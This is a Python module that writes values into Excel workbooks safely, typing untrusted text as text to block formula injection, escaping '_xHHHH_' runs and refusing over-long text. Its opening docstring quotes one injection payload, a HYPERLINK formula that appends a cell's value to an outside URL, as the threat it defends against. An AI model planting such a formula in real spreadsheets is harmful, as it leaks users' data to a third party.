"""Every cell casegen writes into a workbook, through one converter: text stays text, money a number.

openpyxl takes a str starting with "=" for a formula. A title typed as `=HYPERLINK("http://…?x="&B3)`
would then run in the office's tracker (OWASP's formula injection), so every value that came from a
form, a document or the configuration is written here with the cell's type set to text. Text starting
with +, -, @, a tab or a CR is text in a cell typed so, whatever the office suite would make of it typed
by hand. Only casegen's own totals are formulas (portfolio.xlsx.Formulas).

Text is written as the office suite reads it back. OOXML stores a character XML cannot hold as `_xHHHH_`,
and Excel and calamine decode any such run in a cell, so a title typed as `Budget_x0020_2025` would come
back as `Budget 2025`: its underscore is written escaped (`_x005F_`), as Excel itself writes it (ECMA-376
22.4.2.4). openpyxl escapes nothing and cuts text silently at 32,767 characters, the most a cell holds:
longer text is refused here (TextTooLong), never cut.

The workbooks casegen writes carry its mark (`mark_workbook`), a custom document property that Excel
and Calc keep when a person saves the file again: fileio.not_ours reads it before a file is replaced.
"""
from __future__ import annotations

import re
from datetime import date, datetime
from decimal import Decimal

from casegen.errors import CasegenError, IntakeError, Problem
from casegen.fileio import MARK_PROPERTY

# What XML 1.0 cannot hold (openpyxl's own list, and the non-characters and lone surrogates lxml refuses).
_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")
# The underscore that starts what a reader would take for an escape: written as the escape of "_".
_LOOKS_ESCAPED = re.compile(r"_(?=x[0-9A-Fa-f]{4}_)")
MAX_TEXT = 32767  # characters in one cell, in Excel and Calc alike


class TextTooLong(CasegenError):
    """A text longer than a cell holds: refused, since openpyxl would keep only its first 32,767 characters."""

    def __init__(self, length: int, text: str, where: str = ""):
        self.length, self.start = length, " ".join(text[:60].split())
        place = f"{where}: " if where else ""
        super().__init__(f"{place}the text “{self.start} …” is {length:,} characters long, more than the "
                         f"{MAX_TEXT:,} a cell of a workbook holds; shorten it (or split it between fields)")


def too_long(value) -> bool:
    return isinstance(value, str) and len(value) > MAX_TEXT


def overlong(data, path: tuple = ()) -> list[tuple[tuple, int]]:
    """(path, length) of every text in `data` (dicts and lists, as a case's JSON holds it) too long for a cell."""
    if isinstance(data, dict):
        return [hit for key, value in data.items() for hit in overlong(value, path + (key,))]
    if isinstance(data, (list, tuple)):
        return [hit for i, value in enumerate(data) for hit in overlong(value, path + (i,))]
    return [(path, len(data))] if too_long(data) else []


def refuse_overlong(file: str, data) -> None:
    """IntakeError naming each field of `data` (a case's JSON) whose text no cell can hold: before a form is written."""
    hits = overlong(data)
    if hits:
        raise IntakeError([Problem(file, f"the text is {length:,} characters long, more than the {MAX_TEXT:,} a cell "
                                         "of the form holds; shorten it", field=".".join(map(str, path)),
                                   code="value-too-long") for path, length in hits])


def escaped(text: str) -> str:
    """`text` as a cell stores it, so that a reader decoding `_xHHHH_` gives `text` back."""
    return _LOOKS_ESCAPED.sub("_x005F_", text) if "_x" in text else text


def number(value):
    """A Decimal as the int or float a cell holds (an int where it is whole); anything else as it is."""
    if isinstance(value, Decimal):
        return int(value) if value == value.to_integral_value() else float(value)
    return value


def cell_value(value):
    """What a cell holds for `value`: a number for a Decimal, text without the characters a workbook cannot
    hold, a date or a number as it is, None for nothing."""
    if isinstance(value, str):
        return _ILLEGAL.sub("", value)
    if isinstance(value, (Decimal, int, float, date, datetime)) or value is None:
        return number(value)
    return str(value)  # anything else (a stray object from a reader) is shown as text, never evaluated


def set_value(cell, value):
    """Put `value` into `cell` as cell_value makes it; text is typed as text, so it is never a formula, and
    stored escaped; TextTooLong, naming the cell, for text longer than a cell holds."""
    value = cell_value(value)
    if not isinstance(value, str):
        cell.value = value
        return cell
    if too_long(value):
        raise TextTooLong(len(value), value, f"{cell.parent.title}!{cell.coordinate}")
    # Set past openpyxl's check, which would cut the escaped text at 32,767 characters: the text is checked
    # above, and its characters were made legal by cell_value.
    cell._value, cell.data_type = escaped(value), "s"
    return cell


def put(ws, row: int, column: int, value):
    """ws.cell(row, column, value), with the value written as set_value writes it."""
    return set_value(ws.cell(row=row, column=column), value)


def mark_workbook(wb, what: str) -> None:
    """Mark the workbook as casegen's `what` (a tracker, an annotated copy), replacing any mark it had."""
    from openpyxl.packaging.custom import StringProperty  # writing only: reading a form never imports openpyxl

    props = wb.custom_doc_props
    for prop in [p for p in props.props if p.name == MARK_PROPERTY]:
        props.props.remove(prop)
    props.append(StringProperty(name=MARK_PROPERTY, value=what))
